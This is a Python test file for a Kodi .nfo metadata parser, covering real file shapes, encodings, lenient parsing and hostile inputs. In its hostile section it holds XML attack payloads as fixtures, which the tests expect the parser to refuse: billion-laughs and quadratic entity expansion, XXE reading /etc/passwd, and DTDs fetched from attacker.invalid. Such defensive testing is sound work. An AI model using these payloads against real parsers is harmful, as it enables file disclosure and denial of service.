"""Tests for the Kodi .nfo reader: real shapes, lenient parsing, and hostile files.

Fixtures are written here (modelled on what Kodi, Jellyfin, Sonarr and Radarr write); the
third-party sample files under /work/shared/data/nfo are only read at test time, if present.
"""

from __future__ import annotations

import os
import random
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from mediacenter.library.nfo import (
    MAX_NFO_BYTES,
    MAX_NFO_ROOTS,
    NfoError,
    NfoInfo,
    Person,
    parse_nfo_bytes,
    read_nfo,
)

SHARED_NFO_DIR = Path("/work/shared/data/nfo")

MOVIE_XML = """\
<?xml version="1.0" encoding="UTF-8" standalone="yes" ?>
<movie>
    <title>  The Long Night  </title>
    <originaltitle>La Longue Nuit</originaltitle>
    <sorttitle>Long Night, The</sorttitle>
    <ratings>
        <rating name="imdb" max="10">
            <value>5.100000</value>
            <votes>1200</votes>
        </rating>
        <rating name="themoviedb" max="10" default="true">
            <value>7.250000</value>
            <votes>4321</votes>
        </rating>
    </ratings>
    <rating>3.0</rating>
    <userrating>0</userrating>
    <outline>A short outline.</outline>
    <plot>Snow falls &amp; the &lt;night&gt; is long.</plot>
    <tagline>Winter came.</tagline>
    <runtime>142</runtime>
    <mpaa>Rated PG-13</mpaa>
    <id>tt0000123</id>
    <uniqueid type="imdb">tt0000123</uniqueid>
    <uniqueid type="tmdb" default="true">98765</uniqueid>
    <tmdbId>98765</tmdbId>
    <genre>Action / Adventure</genre>
    <genre>Drama, Action</genre>
    <genre></genre>
    <tag>snow</tag>
    <tag>based on novel, book</tag>
    <country>USA</country>
    <country>Canada</country>
    <set tmdbcolid="1">
        <name>Night Collection</name>
        <overview>All the nights.</overview>
    </set>
    <credits>Ann Writer</credits>
    <credits>Bob Penman / Cy Scribe</credits>
    <writer>Ann Writer</writer>
    <director>Dee Rector,</director>
    <producer>Pat Money</producer>
    <premiered>2017-11-15</premiered>
    <year>2017</year>
    <studio>North Pictures / Ice Films</studio>
    <trailer>plugin://plugin.video.youtube/?action=play_video&amp;videoid=abc</trailer>
    <fileinfo>
        <streamdetails>
            <video><codec>h264</codec><width>1920</width></video>
        </streamdetails>
    </fileinfo>
    <actor>
        <name>Alice Lead</name>
        <role>Heroine</role>
        <order>0</order>
        <thumb>https://example.invalid/a.jpg</thumb>
    </actor>
    <actor>
        <name>Bob Second</name>
        <role>Sidekick</role>
        <order>1</order>
    </actor>
    <actor>
        <name>Lyric Person</name>
        <type>Lyricist</type>
        <order>2</order>
    </actor>
    <actor>
        <role>Nameless</role>
    </actor>
</movie>
"""

TVSHOW_XML = """\
<?xml version="1.0" encoding="UTF-8" standalone="yes" ?>
<tvshow>
    <title>Old Gods</title>
    <showtitle>Old Gods</showtitle>
    <ratings>
        <rating name="themoviedb" max="10" default="true"><value>6.8</value><votes>581</votes>
        </rating>
        <rating name="imdb" max="10" default="true"><value>5.5</value><votes>86352</votes>
        </rating>
    </ratings>
    <season>2</season>
    <episode>16</episode>
    <outline></outline>
    <plot>Gods walk among us.</plot>
    <runtime>0</runtime>
    <mpaa>Australia:MA</mpaa>
    <episodeguide><url>http://api.example.invalid/3/tv/46639?a=1&amp;b=2</url></episodeguide>
    <id IMDB="tt7777777" TMDB="46639">253573</id>
    <uniqueid type="tmdb" default="true">46639</uniqueid>
    <uniqueid type="tvdb">253573</uniqueid>
    <genre>Drama</genre>
    <genre>Sci-Fi &amp; Fantasy</genre>
    <premiered>2017-04-30</premiered>
    <studio>Starz</studio>
    <actor><name>Ricky Lead</name><role>Shadow</role><order>0</order></actor>
    <namedseason number="1">Season 1</namedseason>
</tvshow>
"""

SEASON_XML = """\
<?xml version="1.0" encoding="utf-8" standalone="yes"?>
<season>
  <plot />
  <outline />
  <title>Season 1</title>
  <year>2019</year>
  <tvdbid>359728</tvdbid>
  <premiered>2019-11-08</premiered>
  <releasedate>2019-11-08</releasedate>
  <actor>
    <name>Olive Actor</name>
    <role>Nini</role>
    <type>Actor</type>
    <sortorder>0</sortorder>
  </actor>
  <actor>
    <name>Guest Person</name>
    <role>Visitor</role>
    <type>GuestStar</type>
    <sortorder>1</sortorder>
  </actor>
  <seasonnumber>1</seasonnumber>
</season>
"""

EPISODE_XML = """\
<?xml version="1.0" encoding="UTF-8" standalone="yes" ?>
<episodedetails>
    <title>The Bone Field</title>
    <showtitle>Old Gods</showtitle>
    <ratings>
        <rating name="tmdb" max="10" default="true"><value>7.532000</value><votes>31</votes>
        </rating>
    </ratings>
    <season>1</season>
    <episode>3</episode>
    <displayseason>-1</displayseason>
    <plot>Shadow meets Mr. Wednesday.</plot>
    <runtime>58 min</runtime>
    <mpaa>US:TV-MA</mpaa>
    <id>1276153</id>
    <uniqueid type="tmdb" default="true">1276153</uniqueid>
    <imdbId>tt5017734</imdbId>
    <credits>Bryan Writer</credits>
    <director>David Director</director>
    <aired>2017-04-30</aired>
    <actor><name>Ricky Lead</name><role>&apos;Low Key&apos; Shadow</role><order>0</order></actor>
</episodedetails>
"""

MUSICVIDEO_XML = """\
<musicvideo>
  <title>Dancing Tune</title>
  <artist>The Band</artist>
  <album>Greatest</album>
  <year>1976</year>
  <genre>Pop</genre>
</musicvideo>
"""


def _episode(title: str, season: int, episode: int, *, decl: bool = False) -> str:
    head = '<?xml version="1.0" encoding="utf-8"?>\n' if decl else ""
    return (
        f"{head}<episodedetails>\n  <title>{title}</title>\n  <season>{season}</season>\n"
        f"  <episode>{episode}</episode>\n  <aired>2004-07-16</aired>\n"
        f"  <rating>8.0</rating>\n</episodedetails>\n"
    )


def one(data: str | bytes) -> NfoInfo:
    raw = data.encode("utf-8") if isinstance(data, str) else data
    infos = parse_nfo_bytes(raw)
    assert len(infos) == 1
    return infos[0]


def persons(info: NfoInfo, role: str) -> list[Person]:
    return [p for p in info.people if p.role == role]


# --- real shapes ---------------------------------------------------------------------------------


class TestMovie:
    def test_basic_fields_trimmed_and_unescaped(self) -> None:
        info = one(MOVIE_XML)
        assert info.kind == "movie"
        assert info.title == "The Long Night"
        assert info.original_title == "La Longue Nuit"
        assert info.sort_title == "Long Night, The"
        assert info.plot == "Snow falls & the <night> is long."
        assert info.outline == "A short outline."
        assert info.tagline == "Winter came."
        assert info.year == 2017
        assert info.premiered == "2017-11-15"
        assert info.runtime_min == 142
        assert info.mpaa == "Rated PG-13"
        assert info.set_name == "Night Collection"
        assert info.season is None and info.episode is None and info.show_title is None

    def test_default_rating_preferred_over_first_and_plain(self) -> None:
        info = one(MOVIE_XML)
        assert info.rating == pytest.approx(7.25)
        assert info.votes == 4321

    def test_ids(self) -> None:
        assert one(MOVIE_XML).ids == {"imdb": "tt0000123", "tmdb": "98765"}

    def test_genres_split_deduped_in_order(self) -> None:
        assert one(MOVIE_XML).genres == ["Action", "Adventure", "Drama"]

    def test_studios_tags_countries(self) -> None:
        info = one(MOVIE_XML)
        assert info.studios == ["North Pictures", "Ice Films"]
        assert info.tags == ["snow", "based on novel, book"]  # commas kept in tags
        assert info.countries == ["USA", "Canada"]

    def test_people(self) -> None:
        info = one(MOVIE_XML)
        actors = persons(info, "actor")
        assert [(a.name, a.character, a.order) for a in actors] == [
            ("Alice Lead", "Heroine", 0),
            ("Bob Second", "Sidekick", 1),
        ]
        assert persons(info, "lyricist") == [Person("Lyric Person", "lyricist", None, 2)]
        assert [p.name for p in persons(info, "director")] == ["Dee Rector"]
        assert [p.name for p in persons(info, "writer")] == [
            "Ann Writer",
            "Bob Penman",
            "Cy Scribe",
        ]
        assert [p.name for p in persons(info, "producer")] == ["Pat Money"]
        assert all(p.name for p in info.people)  # the nameless actor is skipped


class TestTvShowSeasonEpisode:
    def test_tvshow(self) -> None:
        info = one(TVSHOW_XML)
        assert info.kind == "tvshow"
        assert info.title == "Old Gods"
        assert info.show_title == "Old Gods"
        # <season>/<episode> in a tvshow.nfo are counts, not numbers.
        assert info.season is None and info.episode is None
        assert info.outline is None
        assert info.runtime_min is None  # "0" means unknown
        assert info.mpaa == "Australia:MA"
        assert info.rating == pytest.approx(6.8)  # first of two "default" ratings
        assert info.votes == 581
        assert info.genres == ["Drama", "Sci-Fi & Fantasy"]
        assert info.year == 2017 and info.premiered == "2017-04-30"
        assert info.ids == {"tmdb": "46639", "tvdb": "253573", "imdb": "tt7777777"}

    def test_season(self) -> None:
        info = one(SEASON_XML)
        assert info.kind == "season"
        assert info.season == 1
        assert info.title == "Season 1"
        assert info.plot is None and info.outline is None
        assert info.year == 2019 and info.premiered == "2019-11-08"
        assert info.ids == {"tvdb": "359728"}
        assert persons(info, "actor") == [Person("Olive Actor", "actor", "Nini", 0)]
        assert persons(info, "guest") == [Person("Guest Person", "guest", "Visitor", 1)]

    def test_episode(self) -> None:
        info = one(EPISODE_XML)
        assert info.kind == "episode"
        assert (info.season, info.episode) == (1, 3)
        assert info.show_title == "Old Gods"
        assert info.premiered == "2017-04-30" and info.year == 2017
        assert info.runtime_min == 58
        assert info.mpaa == "US:TV-MA"
        assert info.rating == pytest.approx(7.532) and info.votes == 31
        # A bare numeric <id> is ignored when explicit ids exist.
        assert info.ids == {"tmdb": "1276153", "imdb": "tt5017734"}
        assert persons(info, "actor")[0].character == "'Low Key' Shadow"
        assert [p.name for p in persons(info, "writer")] == ["Bryan Writer"]
        assert [p.name for p in persons(info, "director")] == ["David Director"]

    def test_musicvideo(self) -> None:
        info = one(MUSICVIDEO_XML)
        assert info.kind == "musicvideo"
        assert info.title == "Dancing Tune" and info.year == 1976
        assert persons(info, "artist") == [Person("The Band", "artist")]

    def test_root_tag_case_insensitive(self) -> None:
        assert one("<Movie><Title>X</Title></Movie>").title == "X"


class TestMultiEpisode:
    def test_two_roots(self) -> None:
        infos = parse_nfo_bytes(
            (_episode("Rising (1)", 1, 1) + _episode("Rising (2)", 1, 2)).encode()
        )
        assert [(i.title, i.season, i.episode) for i in infos] == [
            ("Rising (1)", 1, 1),
            ("Rising (2)", 1, 2),
        ]
        assert all(i.kind == "episode" and i.rating == 8.0 for i in infos)

    def test_four_roots_each_with_declaration(self) -> None:
        text = "".join(_episode(f"Part {n}", 1, n, decl=True) for n in range(1, 5))
        infos = parse_nfo_bytes(text.encode())
        assert [i.episode for i in infos] == [1, 2, 3, 4]

    def test_multi_root_with_latin1_declarations(self) -> None:
        text = "".join(
            '<?xml version="1.0" encoding="ISO-8859-1"?>\n'
            f"<episodedetails><title>Caf\u00e9 {n}</title><episode>{n}</episode></episodedetails>\n"
            for n in (1, 2)
        )
        infos = parse_nfo_bytes(text.encode("latin-1"))
        assert [i.title for i in infos] == ["Caf\u00e9 1", "Caf\u00e9 2"]

    def test_multi_root_with_bare_ampersand(self) -> None:
        text = _episode("Tom & Jerry", 1, 1) + _episode("Salt & Pepper", 1, 2)
        assert [i.title for i in parse_nfo_bytes(text.encode())] == ["Tom & Jerry", "Salt & Pepper"]

    def test_unknown_root_among_episodes_is_rejected(self) -> None:
        text = _episode("A", 1, 1) + "<album><title>x</title></album>"
        with pytest.raises(NfoError, match=r"not an NFO root element <album>"):
            parse_nfo_bytes(text.encode())

    def test_malformed_second_root_reports_line(self) -> None:
        text = _episode("A", 1, 1) + "<episodedetails><title>B</episodedetails>\n"
        with pytest.raises(NfoError, match=r"malformed XML at line 8"):
            parse_nfo_bytes(text.encode())


class TestHybridAndLinkOnly:
    def test_hybrid_xml_then_url(self) -> None:
        text = "<movie><title>Matrix</title></movie>\nhttps://www.themoviedb.org/movie/603\n"
        info = one(text)
        assert info.kind == "movie" and info.title == "Matrix"
        assert info.ids == {"tmdb": "603"}

    def test_hybrid_url_with_unescaped_ampersand_does_not_override_xml_id(self) -> None:
        text = (
            '<tvshow><title>GoT</title><uniqueid type="tvdb">1</uniqueid></tvshow>\n'
            "https://thetvdb.com/?tab=series&id=121361\nhttps://www.imdb.com/title/tt0944947/\n"
        )
        info = one(text)
        assert info.ids == {"tvdb": "1", "imdb": "tt0944947"}

    def test_hybrid_applies_to_every_episode(self) -> None:
        text = _episode("A", 1, 1) + _episode("B", 1, 2) + "https://www.imdb.com/title/tt1234567/"
        infos = parse_nfo_bytes(text.encode())
        assert [i.ids for i in infos] == [{"imdb": "tt1234567"}] * 2

    @pytest.mark.parametrize(
        ("text", "ids"),
        [
            ("https://www.imdb.com/title/tt0944947/\n", {"imdb": "tt0944947"}),
            ("http://akas.imdb.com/title/tt0133093/?ref_=x", {"imdb": "tt0133093"}),
            ("https://www.imdb.com/de/title/tt0133093", {"imdb": "tt0133093"}),
            ("https://www.themoviedb.org/movie/30287-fallo\n", {"tmdb": "30287"}),
            ("https://www.themoviedb.org/tv/1399-game-of-thrones", {"tmdb": "1399"}),
            ("https://www.thetvdb.com/?tab=series&id=121361\n", {"tvdb": "121361"}),
            ("https://thetvdb.com/?tab=episode&seriesid=80379&seasonid=1&id=9", {"tvdb": "80379"}),
            ("https://thetvdb.com/series/game-of-thrones", {"tvdb_slug": "game-of-thrones"}),
            ("https://thetvdb.com/dereferrer/series/121361", {"tvdb": "121361"}),
            (
                "https://www.themoviedb.org/movie/583689\nhttps://www.imdb.com/title/tt4154796\n",
                {"tmdb": "583689", "imdb": "tt4154796"},
            ),
            (
                "  *** SCENE RELEASE ***\n  ||  Movie.2010.1080p  ||\n"
                "  IMDb ...: https://www.imdb.com/title/tt1375666/\n  Size ...: 8 GB\n",
                {"imdb": "tt1375666"},
            ),
            ("IMDb: tt1375666\n", {"imdb": "tt1375666"}),
        ],
    )
    def test_link_only(self, text: str, ids: dict[str, str]) -> None:
        info = one(text)
        assert info.kind == "link"
        assert info.ids == ids
        assert info.title is None

    def test_link_only_cp437_art_with_link(self) -> None:
        raw = (
            b"\xdb\xdb\xb2\xb1 RELEASE \xb1\xb2\xdb\xdb\r\nhttp://www.imdb.com/title/tt0111161/\r\n"
        )
        assert one(raw).ids == {"imdb": "tt0111161"}

    def test_text_without_known_link_is_an_error(self) -> None:
        with pytest.raises(NfoError, match="no XML root element and no IMDb/TMDb/TheTVDB link"):
            parse_nfo_bytes(b"Just some notes about this movie.\nhttps://example.com/x\n")


class TestEncodings:
    def test_utf8_bom(self) -> None:
        raw = b"\xef\xbb\xbf" + MOVIE_XML.replace("The Long Night", "Am\u00e9lie").encode()
        assert one(raw).title == "Am\u00e9lie"

    @pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
    def test_utf16_and_32_with_bom(self, codec: str) -> None:
        text = MOVIE_XML.replace('encoding="UTF-8"', 'encoding="UTF-16"').replace(
            "The Long Night", "\u65e5\u672c \u00e9"
        )
        bom = {"utf-16-le": b"\xff\xfe", "utf-16-be": b"\xfe\xff"}.get(codec, b"")
        info = one(bom + text.encode(codec))
        assert info.title == "\u65e5\u672c \u00e9"
        assert info.year == 2017

    def test_utf16_without_bom(self) -> None:
        assert one("<movie><title>\u00e9t\u00e9</title></movie>".encode("utf-16-le")).title == (
            "\u00e9t\u00e9"
        )

    def test_latin1_declared(self) -> None:
        text = (
            '<?xml version="1.0" encoding="ISO-8859-1"?>\n'
            "<movie><title>Le Fabuleux Destin d'Am\u00e9lie Poulain</title>"
            "<plot>Caf\u00e9 cr\u00e8me \u00bd</plot></movie>"
        )
        info = one(text.encode("latin-1"))
        assert info.title == "Le Fabuleux Destin d'Am\u00e9lie Poulain"
        assert info.plot == "Caf\u00e9 cr\u00e8me \u00bd"

    def test_undeclared_windows_1252_falls_back(self) -> None:
        raw = "<movie><title>Na\u00efve \u2013 \u00e9</title></movie>".encode("cp1252")
        assert one(raw).title == "Na\u00efve \u2013 \u00e9"

    def test_mislabelled_utf8_declared_is_read_as_cp1252(self) -> None:
        raw = '<?xml version="1.0" encoding="UTF-8"?><movie><title>Caf\xe9</title></movie>'
        assert one(raw.encode("latin-1")).title == "Caf\u00e9"

    def test_unknown_declared_encoding_falls_back_to_utf8(self) -> None:
        raw = '<?xml version="1.0" encoding="x-bogus-9"?><movie><title>\u00e9</title></movie>'
        assert one(raw.encode()).title == "\u00e9"


class TestLeniency:
    def test_empty_elements_are_none_or_skipped(self) -> None:
        info = one(
            "<movie><title>  </title><plot/><genre></genre><genre> </genre><year></year>"
            "<rating></rating><actor><name></name></actor><director/></movie>"
        )
        assert info.title is None and info.plot is None and info.year is None
        assert info.genres == [] and info.people == [] and info.rating is None

    def test_bare_ampersand_and_html_entity_tolerated(self) -> None:
        info = one("<movie><title>Tom & Jerry</title><plot>A&nbsp;B</plot></movie>")
        assert info.title == "Tom & Jerry"
        assert info.plot == "A&nbsp;B"

    def test_cdata_kept_verbatim(self) -> None:
        assert one("<movie><plot><![CDATA[a &amp; b < c]]></plot></movie>").plot == "a &amp; b < c"

    def test_comments_and_processing_instructions_ignored(self) -> None:
        text = "<!-- made by tool --><movie><!-- c --><?pi x?><title>T</title></movie>"
        assert one(text).title == "T"

    @pytest.mark.parametrize(
        ("xml", "year", "premiered"),
        [
            ("<year>1999</year>", 1999, None),
            ("<premiered>2003-05-15</premiered>", 2003, "2003-05-15"),
            ("<releasedate>2003-05-15</releasedate>", 2003, "2003-05-15"),
            ("<aired>2003-5-1</aired>", 2003, "2003-05-01"),
            ("<premiered>2010-07-16 00:00:00</premiered>", 2010, "2010-07-16"),
            ("<premiered>2010-07-16T20:00:00Z</premiered>", 2010, "2010-07-16"),
            ("<premiered>16.07.2010</premiered>", 2010, "2010-07-16"),
            ("<premiered>2017-02-30</premiered>", 2017, None),
            ("<premiered>0001-01-01</premiered>", None, None),
            ("<premiered>soon</premiered><year>2001</year>", 2001, None),
            ("<year>2001</year><premiered>2000-12-25</premiered>", 2001, "2000-12-25"),
            ("<premiered></premiered><aired>2011-04-17</aired>", 2011, "2011-04-17"),
        ],
    )
    def test_dates(self, xml: str, year: int | None, premiered: str | None) -> None:
        info = one(f"<movie>{xml}</movie>")
        assert (info.year, info.premiered) == (year, premiered)

    @pytest.mark.parametrize(
        ("runtime", "minutes"),
        [
            ("142", 142),
            (" 142 ", 142),
            ("142 min", 142),
            ("142min", 142),
            ("142 minutes", 142),
            ("2h 22m", 142),
            ("2h22min", 142),
            ("2 hours 22 minutes", 142),
            ("1h30", 90),
            ("2:22", 142),
            ("1:30:00", 90),
            ("120.4", 120),
            ("0", None),
            ("", None),
            ("unknown", None),
        ],
    )
    def test_runtime(self, runtime: str, minutes: int | None) -> None:
        assert one(f"<movie><runtime>{runtime}</runtime></movie>").runtime_min == minutes

    @pytest.mark.parametrize(
        ("xml", "rating", "votes"),
        [
            ("<rating>7.3</rating><votes>1,234</votes>", 7.3, 1234),
            ("<rating>7,3</rating>", 7.3, None),
            ("<rating>12.5</rating>", None, None),
            ("<rating>-1</rating>", None, None),
            ('<ratings><rating name="x" max="5"><value>4</value></rating></ratings>', 8.0, None),
            (
                '<ratings><rating name="a"><value>5</value><votes>9</votes></rating></ratings>'
                "<rating>6</rating>",
                6.0,
                None,
            ),
            (
                '<ratings><rating name="a"><value>5</value><votes>9</votes></rating></ratings>',
                5.0,
                9,
            ),
            (
                '<ratings><rating name="a" default="true"><value>99</value></rating>'
                '<rating name="b"><value>4.5</value></rating></ratings>',
                4.5,
                None,
            ),
        ],
    )
    def test_ratings(self, xml: str, rating: float | None, votes: int | None) -> None:
        info = one(f"<movie>{xml}</movie>")
        assert info.rating == (pytest.approx(rating) if rating is not None else None)
        assert info.votes == votes

    @pytest.mark.parametrize(
        ("xml", "ids"),
        [
            ("<movie><id>tt0133093</id></movie>", {"imdb": "tt0133093"}),
            ("<movie><id>603</id></movie>", {"tmdb": "603"}),
            ("<tvshow><id>121361</id></tvshow>", {"tvdb": "121361"}),
            (
                "<movie><imdbid>tt1</imdbid><tmdbid>2</tmdbid><tvdbid>3</tvdbid></movie>",
                {"imdb": "tt1", "tmdb": "2", "tvdb": "3"},
            ),
            ('<movie><uniqueid type="IMDB">tt9</uniqueid></movie>', {"imdb": "tt9"}),
            ('<movie><uniqueid type="themoviedb">5</uniqueid></movie>', {"tmdb": "5"}),
            ("<movie><uniqueid>5</uniqueid></movie>", {}),
        ],
    )
    def test_ids(self, xml: str, ids: dict[str, str]) -> None:
        assert one(xml).ids == ids

    def test_set_as_plain_text(self) -> None:
        assert one("<movie><set>Old Style Set</set></movie>").set_name == "Old Style Set"

    def test_producer_with_name_child(self) -> None:
        info = one("<movie><producer><name>Kay Prod</name><role>Exec</role></producer></movie>")
        assert persons(info, "producer") == [Person("Kay Prod", "producer")]

    def test_certification_fallback(self) -> None:
        assert one("<movie><certification>FSK 12</certification></movie>").mpaa == "FSK 12"

    def test_episode_negative_numbers_dropped(self) -> None:
        info = one("<episodedetails><season>-1</season><episode>x</episode></episodedetails>")
        assert info.season is None and info.episode is None

    def test_specials_season_zero(self) -> None:
        info = one("<episodedetails><season>0</season><episode>2</episode></episodedetails>")
        assert (info.season, info.episode) == (0, 2)


# --- bad and hostile files -----------------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE movie [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<movie><title>&lol9;</title></movie>
"""


def _quadratic_blowup() -> bytes:
    entity = "A" * 50_000
    refs = "&a;" * 50_000
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE movie [<!ENTITY a "{entity}">]>\n'
        f"<movie><plot>{refs}</plot></movie>"
    ).encode()


XXE_FILE = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE movie [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<movie><title>&xxe;</title></movie>
"""

XXE_PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE movie [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<movie><title>x</title></movie>
"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE movie SYSTEM "http://attacker.invalid/movie.dtd">
<movie><title>x</title></movie>
"""

PUBLIC_DTD = """<?xml version="1.0"?>
<!DOCTYPE movie PUBLIC "-//X//DTD Movie//EN" "file:///etc/passwd">
<movie><title>x</title></movie>
"""

PLAIN_DOCTYPE = """<?xml version="1.0"?>
<!DOCTYPE movie>
<movie><title>x</title></movie>
"""


@pytest.mark.timeout(10)
class TestHostile:
    @pytest.mark.parametrize(
        ("data", "message"),
        [
            (BILLION_LAUGHS.encode(), r"refused: entity declarations \(possible entity-expansion"),
            (_quadratic_blowup(), r"refused: entity declarations"),
            (XXE_FILE.encode(), r"refused: external entity or DTD reference \(possible XXE"),
            (XXE_PARAMETER.encode(), r"refused: external entity or DTD reference"),
            (EXTERNAL_DTD.encode(), r"refused: external entity or DTD reference"),
            (PUBLIC_DTD.encode(), r"refused: external entity or DTD reference"),
            (PLAIN_DOCTYPE.encode(), r"refused: DTD declaration"),
            (BILLION_LAUGHS.encode("utf-16"), r"refused: entity declarations"),
            (
                _episode("A", 1, 1).encode() + XXE_FILE.encode(),
                r"refused: external entity or DTD reference",
            ),
        ],
        ids=[
            "billion-laughs",
            "quadratic-blowup",
            "xxe-passwd",
            "xxe-parameter-entity",
            "external-dtd",
            "public-dtd",
            "plain-doctype",
            "billion-laughs-utf16",
            "xxe-in-second-root",
        ],
    )
    def test_dtd_and_entities_refused(self, data: bytes, message: str) -> None:
        with pytest.raises(NfoError, match=message):
            parse_nfo_bytes(data)

    def test_xxe_never_leaks_file_content(self, tmp_path: Path) -> None:
        path = tmp_path / "evil.nfo"
        path.write_text(XXE_FILE, encoding="utf-8")
        with pytest.raises(NfoError) as info:
            read_nfo(path)
        assert "root:" not in str(info.value)
        assert info.value.path == str(path)

    @pytest.mark.parametrize(
        ("data", "message"),
        [
            (b"", r"^empty file$"),
            (b"   \r\n\t  \n", r"^empty file$"),
            (b"\xef\xbb\xbf  \n", r"^empty file$"),
            (b"<movie><title>x</title>", r"malformed XML at line 1, column \d+: no element found"),
            (
                b"<movie>\n<title>x</titel>\n</movie>",
                r"malformed XML at line 2, column \d+: mismatched",
            ),
            (b"<movie><title>x</title></movie", r"malformed XML at line 1"),
            (b"<movie attr=>x</movie>", r"malformed XML"),
            (b"<movie>\x01</movie>", r"malformed XML"),
            (b"<>", r"malformed XML"),
            (b"<foo><title>x</title></foo>", r"^not an NFO root element <foo>$"),
            (b"<html><body>x</body></html>", r"not an NFO root element <html>"),
            (b"<album><title>x</title></album>", r"not an NFO root element <album>"),
            (b"\x00\x01\x02\x03binary\x00", r"binary data"),
            (b"\xff\xfe<\x00m\x00\x00\xd8", r"invalid UTF-16|malformed XML"),
        ],
    )
    def test_malformed(self, data: bytes, message: str) -> None:
        with pytest.raises(NfoError, match=message):
            parse_nfo_bytes(data)

    @staticmethod
    def _parse_expecting_clean_failure(data: bytes) -> list[NfoInfo] | None:
        """Parse; a failure must be an NfoError with a specific reason, not the catch-all."""
        try:
            return parse_nfo_bytes(data)
        except NfoError as exc:
            assert not str(exc).startswith("unreadable NFO"), str(exc)
            return None

    def test_binary_garbage(self) -> None:
        rng = random.Random(1234)
        for _ in range(50):
            data = bytes(rng.randrange(256) for _ in range(rng.randrange(1, 4000)))
            result = self._parse_expecting_clean_failure(data)
            # A random blob can only "succeed" as a link-only file with a recognised id.
            assert result is None or all(i.kind == "link" and i.ids for i in result)

    def test_truncated_and_mutated_files_only_raise_nfoerror(self) -> None:
        raw = MOVIE_XML.encode()
        for cut in range(0, len(raw), 7):
            self._parse_expecting_clean_failure(raw[:cut])
        rng = random.Random(99)
        for _ in range(300):
            data = bytearray(raw)
            for _ in range(rng.randrange(1, 6)):
                data[rng.randrange(len(data))] = rng.randrange(256)
            self._parse_expecting_clean_failure(bytes(data))

    @pytest.mark.parametrize(
        "build",
        [
            lambda n: b"imdb.a/" * (n // 7),
            lambda n: b"thetvdb.com/?" * (n // 13),
            lambda n: b"<movie/>\n" + b"themoviedb.org/tv/" * (n // 20),
            lambda n: b"<movie>" + b"<?xml " * (n // 7),
            lambda n: b"<!ENTITY " * (n // 9),
            lambda n: b"<movie><genre>" + b" " * n + b"x</genre></movie>",
            lambda n: b"<movie><runtime>" + b"1h " * (n // 3) + b"</runtime></movie>",
            lambda n: b"<movie><plot>" + b"&#1" * (n // 3) + b"</plot></movie>",
        ],
        ids=[
            "imdb-url-prefixes",
            "tvdb-url-prefixes",
            "hybrid-trailer-blob",
            "xml-declaration-openers",
            "entity-openers",
            "genre-of-blanks",
            "runtime-blob",
            "bare-char-refs",
        ],
    )
    def test_pathological_inputs_take_linear_time(self, build: Callable[[int], bytes]) -> None:
        """A pattern that backtracks, or a pass per match, shows as time growing faster than
        the input: four times the bytes must cost about four times as long (linear), never
        sixteen (quadratic). Measured against the same input at a quarter of the size, in the
        same test (best of a few runs each), so a busy machine slows both alike."""

        def best(data: bytes, runs: int) -> float:
            times = []
            for _ in range(runs):
                start = time.perf_counter()
                try:
                    parse_nfo_bytes(data)
                except NfoError as exc:
                    assert not str(exc).startswith("unreadable NFO"), str(exc)
                times.append(time.perf_counter() - start)
            return min(times)

        small = best(build(MAX_NFO_BYTES // 4), 3)
        large = best(build(MAX_NFO_BYTES - 64), 2)
        # The floor: inputs refused at once cost microseconds, whose ratio means nothing.
        assert large <= 10 * max(small, 0.002), f"{large:.3f} s vs {small:.4f} s at 1/4"

    def test_too_many_roots_refused(self) -> None:
        root = b"<episodedetails><title>x</title></episodedetails>\n"
        with pytest.raises(NfoError, match=rf"refused: more than {MAX_NFO_ROOTS} root elements"):
            parse_nfo_bytes(root * (MAX_NFO_ROOTS + 1))
        assert len(parse_nfo_bytes(root * MAX_NFO_ROOTS)) == MAX_NFO_ROOTS

    def test_deeply_nested_elements(self) -> None:
        depth = 200_000
        data = b"<movie>" + b"<a>" * depth + b"x" + b"</a>" * depth + b"<title>T</title></movie>"
        assert one(data).title == "T"

    def test_zero_byte_file(self, tmp_path: Path) -> None:
        path = tmp_path / "empty.nfo"
        path.write_bytes(b"")
        with pytest.raises(NfoError, match="empty file"):
            read_nfo(path)

    def test_too_large_file_refused_before_parsing(self, tmp_path: Path) -> None:
        path = tmp_path / "huge.nfo"
        body = b"<movie><plot>" + b"x" * (10 * 1024 * 1024) + b"</plot></movie>"
        path.write_bytes(body)
        with pytest.raises(NfoError, match=r"^refused: file larger than 5 MB$"):
            read_nfo(path)
        with pytest.raises(NfoError, match=r"refused: file larger than 5 MB"):
            parse_nfo_bytes(body)

    def test_just_under_the_cap_is_parsed(self) -> None:
        head, tail = b"<movie><plot>", b"</plot></movie>"
        body = head + b"x" * (MAX_NFO_BYTES - len(head) - len(tail)) + tail
        assert len(body) == MAX_NFO_BYTES
        assert one(body).plot is not None

    def test_missing_file(self, tmp_path: Path) -> None:
        path = tmp_path / "nope.nfo"
        with pytest.raises(NfoError, match=r"cannot read file") as info:
            read_nfo(path)
        assert info.value.path == str(path)

